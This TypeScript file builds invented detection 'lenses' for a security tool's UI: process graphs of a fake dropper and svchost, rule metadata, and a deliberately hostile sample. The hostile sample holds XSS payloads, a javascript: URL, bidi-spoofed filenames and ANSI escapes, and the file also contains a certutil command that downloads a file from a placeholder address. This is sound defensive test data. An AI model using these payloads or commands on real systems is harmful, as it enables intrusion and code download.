import type { LensDetail, LensSummary, ScoreRow } from '../../core/contract/lenses.ts';
import { activityOf } from '../../core/contract/lens-activity.ts';
import { GraphBuilder } from './graph-builder.ts';

/** Invented lenses, and the raw records behind them, for work on the UI without a service. */
export interface Samples {
  readonly lenses: readonly LensDetail[];
  /** Records by upload number, in order. */
  readonly records: ReadonlyMap<number, readonly string[]>;
}

const SVCHOST = {
  id: 'suspicious-svchost',
  title: 'Suspicious svchost',
  kind: 'pattern',
  risk: 75,
  techniques: ['T1036.005'],
  why: 'svchost.exe was started by cmd.exe, not by services.exe.',
} as const;

const RARE_PARENT = {
  id: 'rare-parent-of-cmd',
  title: 'Rare parent of cmd.exe',
  kind: 'pattern',
  risk: 10,
  techniques: ['T1059.003'],
  why: 'dropper.exe has started cmd.exe once, and never before, in this organisation.',
} as const;

const INDICATOR = {
  id: 'indicators.blocklist',
  title: 'Address on the blocklist',
  kind: 'indicator',
  risk: 25,
  techniques: ['T1071.001'],
  why: '203.0.113.66 is on the list “command and control”, until 1 January 2027.',
} as const;

const LOLBIN = {
  id: 'sigma.certutil-download',
  title: 'Certutil used as a downloader',
  kind: 'sigma',
  risk: 40,
  techniques: ['T1105', 'T1140', 'T1218', 'T1027'],
  why: 'certutil.exe was called with -urlcache and an address.',
  rule: {
    level: 'high',
    author: 'Ada Example (Example Labs)',
    license: 'DRL 1.1',
    description: 'Finds certutil.exe when it fetches a file, which administrators seldom do.',
    references: ['https://example.com/certutil'],
    falsePositives: ['Updates of certificate lists'],
  },
} as const;

/** What every field of the hostile sample holds. */
export const HOSTILE = {
  markup: '<img src=x onerror="window.hacked=1"><script>window.hacked=2</script>',
  url: 'javascript:window.hacked=3',
  bidi: 'invoice\u202efdp.exe',
  zero: 'svc\u200bhost\u2066.exe\u2069',
  ansi: '\u001b[31mcmd\u001b[0m\u0000\u0007',
  zalgo: `z${'\u0301'.repeat(60)}algo`,
  long: 'A'.repeat(100_000),
} as const;

/** Builds the samples; their story ends shortly before `nowMs`. */
export function buildSamples(nowMs: number): Samples {
  const built = [
    dropper(nowMs - 14 * 60_000),
    hostile(nowMs - 50 * 60_000),
    wide(nowMs - 3 * 3_600_000),
    ...small(nowMs),
  ];
  return {
    lenses: built.map(({ detail }) => detail),
    records: new Map(built.map(({ upload, records }) => [upload, records])),
  };
}

interface Built {
  readonly upload: number;
  readonly records: readonly string[];
  readonly detail: LensDetail;
}

/** Browser, dropper, shell, a false svchost, and the second host that it reached. */
function dropper(start: number): Built {
  const build = new GraphBuilder(1);
  const one = 'WORKSTATION-7';
  const two = 'FILESERVER-2';
  const temp = 'C:\\Users\\mia.berg\\AppData\\Local\\Temp';
  const at = (seconds: number) => start + Math.round(seconds * 1000);
  const explorer = build.process({ host: one, pid: 3120, name: 'explorer.exe', at: at(0) });
  const browser = build.process(
    {
      host: one,
      pid: 4012,
      name: 'chrome.exe',
      image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
      command:
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --profile-directory=Default',
      at: at(31.4),
    },
    explorer,
  );
  build.connection(browser, '198.51.100.23', 443, at(78.2));
  const dropped = build.file(browser, one, `${temp}\\dropper.exe`, at(82.31));
  const dropperProcess = build.process(
    {
      host: one,
      pid: 4164,
      name: 'dropper.exe',
      image: `${temp}\\dropper.exe`,
      command: `"${temp}\\dropper.exe" /quiet`,
      at: at(93.33),
    },
    browser,
  );
  build.ranFrom(dropperProcess, dropped, at(93.33));
  const payload = build.file(dropperProcess, one, `${temp}\\svchost.exe`, at(93.9));
  build.file(dropperProcess, one, `${temp}\\cfg.dat`, at(93.95));
  const shell = build.process(
    {
      host: one,
      pid: 5824,
      name: 'cmd.exe',
      command: `cmd.exe /c start /b "" "${temp}\\svchost.exe" -k netsvcs`,
      at: at(94.21),
    },
    dropperProcess,
  );
  const svchost = build.process(
    {
      host: one,
      pid: 6132,
      name: 'svchost.exe',
      image: `${temp}\\svchost.exe`,
      command: `${temp}\\svchost.exe -k netsvcs`,
      at: at(94.29),
    },
    shell,
  );
  build.ranFrom(svchost, payload, at(94.29));
  const control = build.connection(svchost, '203.0.113.66', 8443, at(95.7));
  build.file(svchost, one, 'C:\\ProgramData\\Intel\\state.bin', at(97.1));
  const whoami = build.process(
    { host: one, pid: 6208, name: 'whoami.exe', command: 'whoami /all', at: at(121.5) },
    svchost,
  );
  build.connection(svchost, '10.20.0.15', 445, at(212.9));
  build.address(two, '10.20.0.15', at(212.9));
  const services = build.process({
    host: two,
    pid: 712,
    name: 'services.exe',
    user: 'NT AUTHORITY\\SYSTEM',
    at: at(-86_400),
  });
  build.connection(services, '10.20.0.15', 445, at(213.02), true);
  const second = build.process(
    {
      host: two,
      pid: 2290,
      name: 'svchost.exe',
      image: 'C:\\Windows\\Temp\\svchost.exe',
      command: 'C:\\Windows\\Temp\\svchost.exe -k netsvcs',
      user: 'NT AUTHORITY\\SYSTEM',
      at: at(216.4),
    },
    services,
  );
  build.connection(second, '203.0.113.66', 8443, at(218.11));

  build.risk(shell, 10, RARE_PARENT.title);
  build.risk(dropperProcess, 10, RARE_PARENT.title);
  build.risk(svchost, 75, SVCHOST.title);
  build.risk(svchost, 25, INDICATOR.title);
  build.risk(second, 25, INDICATOR.title);
  build.risk(control, 25, INDICATOR.title);
  void whoami;
  const rows = [
    row(SVCHOST, { contribution: 75, hits: 1, nodes: [shell, svchost], times: [at(94.29)] }),
    row(INDICATOR, {
      contribution: 25,
      hits: 2,
      nodes: [svchost, second, control],
      times: [at(95.7), at(218.11)],
    }),
    row(RARE_PARENT, {
      contribution: 10,
      hits: 1,
      nodes: [dropperProcess, shell],
      times: [at(94.21)],
    }),
  ];
  const why = 'chrome.exe → dropper.exe → cmd.exe → svchost.exe → 203.0.113.66';
  return finish(build, 1, 'lens-dropper', one, why, rows, 0);
}

/** Every field is an attempt on the reader. */
function hostile(start: number): Built {
  const build = new GraphBuilder(2);
  const host = HOSTILE.markup;
  const root = build.process({
    host,
    pid: 666,
    name: HOSTILE.bidi,
    image: HOSTILE.url,
    command: HOSTILE.long,
    user: HOSTILE.zalgo,
    at: start,
  });
  const child = build.process(
    {
      host,
      pid: 667,
      name: HOSTILE.markup,
      image: HOSTILE.ansi,
      command: `${HOSTILE.ansi} ${HOSTILE.markup}`,
      user: HOSTILE.markup,
      at: start + 250,
    },
    root,
  );
  build.file(child, host, `C:\\${HOSTILE.zero}`, start + 300);
  build.connection(child, '"><svg onload=window.hacked=4>', 1, start + 400);
  build.risk(child, 40, HOSTILE.markup);
  const rows = [
    row(
      {
        ...LOLBIN,
        title: HOSTILE.markup,
        why: `${HOSTILE.bidi} ${HOSTILE.ansi}`,
        rule: {
          ...LOLBIN.rule,
          author: HOSTILE.markup,
          license: HOSTILE.bidi,
          description: HOSTILE.ansi,
          references: [HOSTILE.url],
        },
      },
      { contribution: 40, hits: 1, nodes: [child], times: [start + 250] },
    ),
  ];
  const why = `${HOSTILE.bidi} → ${HOSTILE.zero} → ${HOSTILE.markup}`;
  return finish(build, 2, 'lens-hostile', HOSTILE.markup, why, rows, 0);
}

/** Three hundred nodes: a build server that does much, and one thing that it should not. */
function wide(start: number): Built {
  const build = new GraphBuilder(3);
  const host = 'BUILD-01';
  const agent = build.process({ host, pid: 900, name: 'agent.exe', at: start });
  const parents = [agent];
  let pid = 1000;
  let last = agent;
  for (let at = 0; at < 230; at += 1) {
    const parent = parents[Math.floor(at / 3)] ?? agent;
    pid += 4;
    last = build.process(
      {
        host,
        pid,
        name: ['node.exe', 'git.exe', 'cl.exe', 'link.exe', 'python.exe'][at % 5] ?? 'node.exe',
        command: `step ${at} --workspace D:\\work\\${at % 9}`,
        at: start + at * 1700,
      },
      parent,
    );
    parents.push(last);
    if (at % 3 === 0)
      build.file(last, host, `D:\\work\\out\\object-${at}.obj`, start + at * 1700 + 300);
  }
  for (let at = 0; at < 110; at += 1) {
    build.file(parents[2] ?? agent, host, `D:\\work\\cache\\blob-${at}.bin`, start + at * 90);
  }
  for (let at = 0; at < 6; at += 1) {
    build.connection(parents[at * 7] ?? agent, `192.0.2.${at + 10}`, 443, start + at * 4000);
  }
  build.risk(last, 40, LOLBIN.title);
  const rows = [
    row(LOLBIN, { contribution: 40, hits: 1, nodes: [last], times: [start + 229 * 1700] }),
  ];
  return finish(build, 3, 'lens-wide', host, 'agent.exe → node.exe → certutil.exe', rows, 212);
}

/** Lenses of few nodes, so that the list is a list. */
function small(nowMs: number): Built[] {
  const hosts = [
    'LAPTOP-ANNA',
    'LAPTOP-JONAS',
    'DC-01',
    'PRINT-3',
    'KIOSK-12',
    'LAPTOP-YUKI',
    'VDI-0419',
    'SQL-PROD-2',
    'LAPTOP-OMAR',
    'JUMP-1',
    'LAPTOP-LENA',
    'WEB-EDGE-4',
  ];
  return hosts.map((host, at) => {
    const upload = 10 + at;
    const start = nowMs - (at + 1) ** 2 * 31 * 60_000;
    const build = new GraphBuilder(upload);
    const parent = build.process({
      host,
      pid: 2000 + at,
      name: ['winword.exe', 'outlook.exe', 'java.exe', 'sqlservr.exe'][at % 4] ?? 'java.exe',
      at: start,
    });
    const child = build.process(
      {
        host,
        pid: 3000 + at,
        name: at % 3 === 0 ? 'certutil.exe' : 'cmd.exe',
        command:
          at % 3 === 0
            ? 'certutil.exe -urlcache -f http://198.51.100.9/a.txt a.exe'
            : 'cmd.exe /c "dir C:\\Users"',
        at: start + 1400,
      },
      parent,
    );
    const rule = at % 3 === 0 ? LOLBIN : RARE_PARENT;
    const risk = at % 3 === 0 ? 40 + (at === 3 ? 15 : 0) : 10;
    build.risk(child, risk, rule.title);
    const rows = [
      row(rule, { contribution: risk, hits: 1, nodes: [parent, child], times: [start + 1400] }),
    ];
    const names = build
      .graph()
      .nodes.filter((node) => node.type === 'process')
      .map((node) => node.properties.name?.value);
    return finish(build, upload, `lens-${at}`, host, names.join(' → '), rows, 0);
  });
}

interface RowFacts {
  readonly contribution: number;
  readonly hits: number;
  readonly nodes: readonly string[];
  readonly times: readonly number[];
}

function row(
  analyzer: Pick<ScoreRow, 'title' | 'kind' | 'risk' | 'techniques' | 'why' | 'rule'> & {
    readonly id: string;
  },
  { contribution, hits, nodes, times }: RowFacts,
): ScoreRow {
  const { id, ...rest } = analyzer;
  return {
    analyzerId: id,
    ...rest,
    hits,
    contribution,
    nodes,
    first: Math.min(...times),
    last: Math.max(...times),
  };
}

function finish(
  build: GraphBuilder,
  upload: number,
  id: string,
  name: string,
  why: string,
  rows: readonly ScoreRow[],
  omitted: number,
): Built {
  const graph = build.graph(omitted);
  const times = graph.edges.map((edge) => edge.first);
  const last = Math.max(...times);
  const lens: LensSummary = {
    id,
    type: 'asset',
    name,
    score: rows.reduce((sum, { contribution }) => sum + contribution, 0),
    hits: rows.reduce((sum, { hits }) => sum + hits, 0),
    techniques: [...new Set(rows.flatMap(({ techniques }) => techniques))],
    analyzers: rows.map(({ analyzerId, title }) => ({ id: analyzerId, title })),
    why,
    first: Math.min(...rows.map((scored) => scored.first)),
    last,
    activity: activityOf(
      rows.flatMap((scored) => [
        scored.first,
        ...Array.from({ length: scored.hits - 1 }, () => scored.last),
      ]),
    ),
    updatedAt: last + 2000,
  };
  return { upload, records: build.records, detail: { lens, rows, terms: [], graph } };
}
